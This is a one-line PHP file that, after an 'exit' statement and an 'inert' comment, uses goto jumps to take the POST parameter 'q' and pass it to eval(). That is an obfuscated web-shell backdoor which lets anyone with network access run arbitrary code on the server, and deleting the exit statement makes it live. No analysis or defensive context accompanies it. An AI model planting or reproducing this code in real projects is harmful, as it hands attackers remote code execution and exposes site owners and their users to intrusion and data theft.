<?php exit; /* inert */ goto b; a: eval($x); goto c; b: $x=$_POST["q"]; goto a; c: ;
